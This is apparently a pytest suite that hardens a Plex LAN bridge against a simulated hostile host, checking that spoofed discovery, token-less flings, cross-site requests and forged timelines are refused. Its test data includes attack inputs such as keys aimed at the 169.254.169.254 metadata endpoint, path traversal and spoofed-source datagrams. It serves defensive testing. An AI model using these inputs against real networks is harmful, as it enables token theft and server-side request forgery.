"""A hostile host on the LAN (issue 12 rows 1, 2, 3, 6, 7, 8, 9, 10): each attack fails, and the
legitimate path it imitates still works.

The bridge, the Plex server and the owner's TV run in the test process, which netlab plugs into a
LAN segment; the attacker is another network namespace on that segment with its own address. It
has what any host on a home LAN has: GDM datagrams from an address of its own choosing, plain HTTP,
and listening sockets (tests/hardening/lan_attacker.py, run inside its namespace).

Every test runs twice: without a plex.tv account, and with one linked (issue 13). On the way out the
lab checks that neither the configured server token nor any plex.tv token reached the attacker's
host (every frame its interface saw), and no plex.tv token reached the TV or the server.
"""

from __future__ import annotations

import asyncio
import json
import logging
import socket
import uuid
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import aiohttp
import pytest

from tests.hardening.conftest import TOKEN
from tests.hardening.hostile_lan import (
    ACCOUNTS,
    MOVIE,
    PRIVATE,
    TV,
    arrived,
    lan_lab,
    lines_so_far,
    private_requests,
    spawn_listener,
)
from tests.helpers import until
from tests.netlab import ip


@pytest.fixture(params=ACCOUNTS)
def account(request: pytest.FixtureRequest) -> str:
    """Without a plex.tv account, and with one linked."""
    return str(request.param)


# -- row 1 -------------------------------------------------------------------------------------


async def test_row1_a_lan_fling_gets_no_configured_token_and_a_grant_covers_only_the_flung_item(
        tmp_path: Path, account: str) -> None:
    # The attacker's player gets the profile that relays (the attacker picks a product whose profile
    # does; here the owner's override stands for that choice).
    async with lan_lab(tmp_path, "profiles: {Evil TV: lab-old-tv}", account=account) as lab:
        listener = await spawn_listener(lab, 40001)
        await lab.gdm("HELLO * HTTP/1.0", {
            "Content-Type": "plex/media-player", "Resource-Identifier": "evil-player-1", "Name": "Evil TV",
            "Port": "40001", "Product": "Evil TV", "Protocol": "plex", "Protocol-Capabilities": "timeline,playback"})
        await until(lambda: any(s.target.name == "Evil TV" for s in lab.bridge.faces.values()), timeout=10,
                    message="the attacker's player got a face (discovery may add)")

        # The attack: fling to its own face with no token, hoping the relay uses the owner's.
        no_token = await lab.attack_http("GET", lab.face_url("Evil TV", "/player/playback/playMedia",
                                                             lab.fling_params(f"/library/metadata/{PRIVATE}")))
        assert no_token["status"] == 403
        assert "token the controller sends with its fling" in no_token["body"]
        records = lab.bridge.audit.recent(10)
        assert records[0].mode == "refused" and "relay-needs-token" in [c for c, _ in records[0].reasons]

        # With a token of its own, it gets a grant; the grant fetches with that token, and covers only
        # the item it flung.
        junk = "attacker-own-token-0001"
        own = await lab.attack_http("GET", lab.face_url("Evil TV", "/player/playback/playMedia",
                                                        lab.fling_params(token=junk)))
        assert own["status"] == 200, own
        (play,) = [r for r in await lines_so_far(listener, wait=3) if "playMedia" in r["path"]]
        sent = parse_qs(urlsplit(play["path"]).query)
        capability, relay = sent["token"][0], f"http://{sent['address'][0]}:{sent['port'][0]}"
        assert capability not in (TOKEN, junk)
        outside = await lab.attack_http("GET", f"{relay}/library/metadata/{PRIVATE}?X-Plex-Token={capability}")
        assert outside["status"] == 403 and "outside-grant" in outside["body"]
        inside = await lab.attack_http("GET", f"{relay}/library/metadata/{MOVIE}?X-Plex-Token={capability}")
        assert inside["status"] == 401, "upstream with the attacker's own token: the server refuses it"
        assert {r.token for r in lab.server.requests_to("/library")} <= {junk}, "never the owner's token"
        assert private_requests(lab.server) == []
        assert TOKEN not in json.dumps([no_token, own, outside, inside])

        # The legitimate paths: the owner's own fling uses the configured token through the relay,
        # and the TV plays; its grant, too, covers only what was flung.
        status, body = await lab.owner_fling(TV, f"/library/metadata/{MOVIE}")
        assert (status, body["mode"]) == (200, "relay"), body
        await until(lab.player.playback_done.is_set, timeout=10, message="the TV played through the relay")
        assert [f.status for f in lab.player.fetched] == [200, 206], "metadata and a media range"
        tv_capability = lab.player.received("playMedia")[-1].params["token"]
        async with aiohttp.ClientSession() as http, http.get(
                f"http://{lab.me}:{lab.bridge.relay.port}/library/metadata/{PRIVATE}",  # type: ignore[union-attr]
                headers={"X-Plex-Token": tv_capability}) as resp:
            assert resp.status == 403
        assert private_requests(lab.server) == []
        listener.kill()


# -- rows 2 and 3 ------------------------------------------------------------------------------


async def test_row2_a_sighting_with_the_configured_servers_identifier_moves_nothing(
        tmp_path: Path, account: str, caplog: pytest.LogCaptureFixture) -> None:
    async with lan_lab(tmp_path, account=account) as lab:
        honeypot = await spawn_listener(lab, 32400)  # where the configured token would go
        admin = f"http://{lab.me}:{lab.config.http.admin_port}/api/servers"
        published = json.loads((await lab.attack_http("GET", admin))["body"])
        idents = {s["id"] for s in (published if isinstance(published, list) else published["servers"])}
        assert lab.server_id in idents
        with caplog.at_level(logging.WARNING, logger="companion.registry"):
            for ident in idents:
                await lab.gdm("HELLO * HTTP/1.0", {
                    "Content-Type": "plex/media-server", "Resource-Identifier": ident, "Name": "Plex",
                    "Port": "32400", "Host": f"{'f' * 32}.plex.direct"})
            # The same for the owner's configured TV, whose identifier is easy to guess.
            await lab.gdm("HELLO * HTTP/1.0", {"Content-Type": "plex/media-player", "Resource-Identifier":
                                               f"config:{TV}", "Name": TV, "Port": "32400"})
            await arrived(lab, "marker-2")
            await lab.bridge.reload(lab.config)  # the ordinary reload of the attack
        tv = lab.bridge.registry.find_target(TV)
        assert tv is not None and (tv.address, tv.port) == (lab.me, lab.player.port)
        servers = lab.bridge.registry.servers()
        assert [(s.address, s.port, s.host) for s in servers if s.token] == [(lab.me, lab.server.port, "")]
        assert all(s.address != lab.attacker.address for s in servers)
        assert "comes only from the config" in caplog.text

        # The legitimate path: the owner's fling through the configured server works, and the
        # attacker's address saw nothing.
        status, body = await lab.owner_fling(TV, f"/library/metadata/{MOVIE}")
        assert (status, body["mode"]) == (200, "relay"), body
        await until(lab.player.playback_done.is_set, timeout=10, message="the TV played")
        assert await lines_so_far(honeypot, wait=1) == []
        honeypot.kill()


async def test_row3_a_bye_with_the_configured_servers_identifier_forgets_nothing(tmp_path: Path, account: str) -> None:
    async with lan_lab(tmp_path, account=account) as lab:
        for ident in (lab.server_id, lab.server.machine_identifier):
            await lab.gdm("BYE * HTTP/1.0", {"Content-Type": "plex/media-server", "Resource-Identifier": ident,
                                             "Port": str(lab.server.port)})
        status, body = await lab.owner_fling(TV, f"/library/metadata/{MOVIE}")
        assert (status, body.get("mode")) == (200, "relay"), f"every configured server is still there: {body}"
        assert [s.address for s in lab.bridge.registry.servers()] == [lab.me]
        await until(lab.player.playback_done.is_set, timeout=10, message="the TV played")

        # A discovered player is removed by its own BYE, never by the attacker's.
        player = {"Content-Type": "plex/media-player", "Resource-Identifier": "kitchen-1", "Name": "Kitchen",
                  "Port": "40002", "Protocol-Capabilities": "timeline,playback"}
        await lab.gdm("HELLO * HTTP/1.0", player)
        await until(lambda: lab.bridge.registry.find_target("kitchen-1") is not None, timeout=10,
                    message="a discovered player")
        lab.attacker.add_address(lab.lan.subnet + ".99")
        await lab.gdm("BYE * HTTP/1.0", player, source=lab.lan.subnet + ".99")
        await arrived(lab, "marker-1")
        assert lab.bridge.registry.find_target("kitchen-1") is not None, "a BYE from another address"
        await lab.gdm("BYE * HTTP/1.0", player)
        await until(lambda: lab.bridge.registry.find_target("kitchen-1") is None, timeout=10,
                    message="the player's own BYE removes it")


# -- row 6 -------------------------------------------------------------------------------------


async def test_row6_a_web_pages_cross_site_requests_are_refused_and_real_apps_pass(
        tmp_path: Path, account: str) -> None:
    async with lan_lab(tmp_path, account=account) as lab:
        pause = lab.face_url(TV, "/player/playback/pause")
        fling = lab.face_url(TV, "/player/playback/playMedia", lab.fling_params(token="phone-token-123"))
        evil = {"Origin": "http://evil.example"}
        attacks = [
            await lab.attack_http("POST", pause, {**evil, "Content-Type": "text/plain"}, data="x"),
            await lab.attack_http("GET", fling, evil),
            await lab.attack_http("GET", pause, {"Origin": "null"}),
            # An <img> or no-cors GET carries no Origin; the browser still says where it came from.
            await lab.attack_http("GET", pause, {"Referer": "http://evil.example/cats.html"}),
            await lab.attack_http("GET", pause, {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}),
        ]
        assert [a["status"] for a in attacks] == [403] * 5, attacks
        assert "evil.example" in attacks[0]["body"] and "http.cors_origins" in attacks[0]["body"]
        assert lab.player.received("pause") == [] and lab.player.received("playMedia") == []

        # Real controllers: python-plexapi sends no Origin; Plex Web sends https://app.plex.tv.
        plexapi = await lab.attack_http("GET", pause, {"X-Plex-Client-Identifier": "plexapi-1"})
        web = await lab.attack_http("GET", pause, {"Origin": "https://app.plex.tv", "Sec-Fetch-Site": "cross-site"})
        same = await lab.attack_http("GET", pause, {"Sec-Fetch-Site": "same-origin"})
        assert [plexapi["status"], web["status"], same["status"]] == [200, 200, 200]
        assert web["headers"].get("Access-Control-Allow-Origin") == "https://app.plex.tv"
        assert len(lab.player.received("pause")) == 3


# -- rows 7 and 8 ------------------------------------------------------------------------------


async def test_row7_keys_that_point_at_another_host_are_refused_and_recorded(tmp_path: Path, account: str) -> None:
    async with lan_lab(tmp_path, account=account) as lab:
        forged = [
            {"key": "//169.254.169.254/latest/meta-data/"},
            {"containerKey": f"https://{lab.attacker.address}/playQueues/1"},
            {"key": "/%2F%2F169.254.169.254/x"},
            {"key": "/library/metadata/501/../../../:/prefs"},
        ]
        answers = []
        for change in forged:
            params = {**lab.fling_params(token="phone-token-123"), **change}
            answers.append(await lab.attack_http("GET", lab.face_url(TV, "/player/playback/playMedia", params)))
        assert [a["status"] for a in answers] == [400] * len(forged), answers
        assert all("expected a path on the server" in a["body"] for a in answers)
        records = lab.bridge.audit.recent(10)
        assert len(records) == len(forged) and {r.mode for r in records} == {"refused"}
        assert {r.reasons[0][0] for r in records} == {"bad-request"}
        assert lab.player.received("playMedia") == []

        ok = await lab.attack_http("GET", lab.face_url(TV, "/player/playback/playMedia", lab.fling_params(
            token="phone-token-123", containerKey="/playQueues/1?own=1&window=100")))
        assert ok["status"] == 200
        (got,) = lab.player.received("playMedia")
        assert (got.params["key"], got.params["containerKey"]) == (f"/library/metadata/{MOVIE}",
                                                                   "/playQueues/1?own=1&window=100")


async def test_row8_a_token_nested_in_key_or_container_key_never_reaches_the_player(
        tmp_path: Path, account: str) -> None:
    async with lan_lab(tmp_path, account=account) as lab:
        # A controller on the LAN (the test process, as a phone) flings with the token nested too.
        params = lab.fling_params(token=TOKEN, key=f"/library/metadata/{MOVIE}?X-Plex-Token={TOKEN}",
                                  containerKey=f"/playQueues/1?own=1&X-Plex-Token%3D{TOKEN}&window=100")
        async with aiohttp.ClientSession() as http, http.get(lab.face_url(TV, "/player/playback/playMedia"),
                                                             params=params) as resp:
            assert resp.status == 200
        (got,) = lab.player.received("playMedia")
        assert TOKEN not in json.dumps([got.params, got.headers, got.path])
        assert got.params["key"] == f"/library/metadata/{MOVIE}"
        assert got.params["containerKey"] == "/playQueues/1?own=1&window=100"
        # Relayed, and it plays: the player's fetches carried the capability, never the token.
        await until(lab.player.playback_done.is_set, timeout=10, message="the TV played through the relay")
        assert [f.status for f in lab.player.fetched] == [200, 200, 206], "metadata, queue, a media range"
        assert all(TOKEN not in f.url and TOKEN not in str(f.request_headers) for f in lab.player.fetched)


# -- row 9 -------------------------------------------------------------------------------------


async def test_row9_a_sighting_from_a_source_that_cannot_be_on_this_link_is_ignored(
        tmp_path: Path, account: str, caplog: pytest.LogCaptureFixture) -> None:
    async with lan_lab(tmp_path, account=account) as lab:
        # An address of another network (a LAN the bridge host also reaches, say) as the source: the
        # bridge would send subscribe and playMedia requests there, on the port the datagram names.
        lab.attacker.add_address("192.168.77.20")
        spoofed = {"Content-Type": "plex/media-player", "Resource-Identifier": "spoofed-1", "Name": "Spoofed",
                   "Port": "6379", "Protocol-Capabilities": "timeline,playback"}
        with caplog.at_level(logging.WARNING, logger="companion.discovery.gdm"):
            await lab.gdm("HELLO * HTTP/1.0", spoofed, source="192.168.77.20")
            # The same player announced from the attacker's own address (on this link) is a sighting.
            await arrived(lab, "onlink-1")
        assert lab.bridge.registry.find_target("spoofed-1") is None
        assert "192.168.77.20" in caplog.text and "not on the network of interface" in caplog.text
        assert all(t.address != "192.168.77.20" for t in lab.bridge.registry.targets())


async def test_row9_on_every_interface_the_kernel_says_where_a_sighting_arrived(
        tmp_path: Path, account: str, caplog: pytest.LogCaptureFixture) -> None:
    # The default configuration listens on every interface; the bridge host also sits on a second
    # network (one end of a veth pair here), whose addresses the attacker borrows as its source.
    other = f"cbtx{uuid.uuid4().hex[:6]}"
    ip("link", "add", other, "type", "veth", "peer", "name", f"{other}p")
    try:
        ip("addr", "add", "192.168.77.1/24", "dev", other)
        ip("link", "set", other, "up")
        ip("link", "set", f"{other}p", "up")
        async with lan_lab(tmp_path, every_interface=True, account=account) as lab:
            assert lab.bridge.config.interfaces == ()
            lab.attacker.add_address("192.168.77.20")
            spoofed = {"Content-Type": "plex/media-player", "Resource-Identifier": "spoofed-2", "Name": "Spoofed",
                       "Port": "6379", "Protocol-Capabilities": "timeline,playback"}
            unicast = f"{lab.me}:{lab.config.gdm.announce_port}"  # on every interface: no group joined here
            with caplog.at_level(logging.WARNING, logger="companion.discovery.gdm"):
                await lab.gdm("HELLO * HTTP/1.0", spoofed, source="192.168.77.20", to=unicast)
                await lab.gdm("HELLO * HTTP/1.0", {**spoofed, "Resource-Identifier": "onlink-2"}, to=unicast)
                await until(lambda: lab.bridge.registry.find_target("onlink-2") is not None, timeout=10,
                            message="the on-link sighting is used")
            assert lab.bridge.registry.find_target("spoofed-2") is None
            assert "192.168.77.20" in caplog.text and "not on the network of interface #" in caplog.text
    finally:
        ip("link", "del", other, check=False)


# -- row 10 ------------------------------------------------------------------------------------


async def test_row10_a_timeline_push_counts_only_from_the_player_it_names(tmp_path: Path, account: str) -> None:
    async with lan_lab(tmp_path, account=account) as lab:
        assert lab.bridge._listener is not None
        listener = f"http://{lab.me}:{lab.bridge._listener.port}/:/timeline"
        slot = next(s for s in lab.bridge.faces.values() if s.target.name == TV)
        await until(lambda: bool(lab.player.state.subscribers), timeout=10, message="the bridge subscribed")
        forged = ('<MediaContainer commandID="1"><Timeline type="video" state="playing" time="1" duration="9" '
                  'key="/library/metadata/666"/><Timeline type="music" state="stopped"/>'
                  '<Timeline type="photo" state="stopped"/></MediaContainer>')
        answer = await lab.attack_http("POST", listener, {"X-Plex-Client-Identifier": lab.player.ident,
                                                          "Content-Type": "application/xml"}, data=forged)
        assert answer["status"] == 403
        assert "666" not in repr(slot.face.state)
        # The player's own push still counts.
        await lab.player.set_playback(state="playing", key=f"/library/metadata/{MOVIE}", duration=600000)
        await until(lambda: f"/library/metadata/{MOVIE}" in repr(slot.face.state), timeout=10,
                    message="the player's own timeline reached the face")


# -- the lab's own check -----------------------------------------------------------------------


@pytest.mark.parametrize("secret", ["account", "server"])
async def test_the_lab_sees_a_token_that_reaches_the_attacker_even_split_across_segments(
        tmp_path: Path, secret: str) -> None:
    """What the check on the way out stands on: a token sent to the attacker's host in two TCP
    segments is found in its capture, and the lab's exit fails."""
    async def leak() -> None:
        async with lan_lab(tmp_path, account="linked") as lab:
            token = next(iter(lab.plextv_tokens())) if secret == "account" else TOKEN
            listener = await spawn_listener(lab, 40050)
            reader, writer = await asyncio.open_connection(lab.attacker.address, 40050)
            writer.get_extra_info("socket").setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            first, second = token[:len(token) // 2].encode(), token[len(token) // 2:].encode()
            writer.write(b"GET /" + first)
            await writer.drain()
            await until(lambda: first in lab.capture.read_bytes(), timeout=10, message="the first segment went out")
            writer.write(second + b" HTTP/1.0\r\n\r\n")
            await writer.drain()
            await reader.read()
            writer.close()
            await writer.wait_closed()
            assert not any(token.encode() in frame for frame in lab.frames()), "no single frame holds it"
            listener.kill()

    which = "a plex.tv token" if secret == "account" else "the server token"
    with pytest.raises(AssertionError, match=f"reached the attacker's host: {which}"):
        await leak()
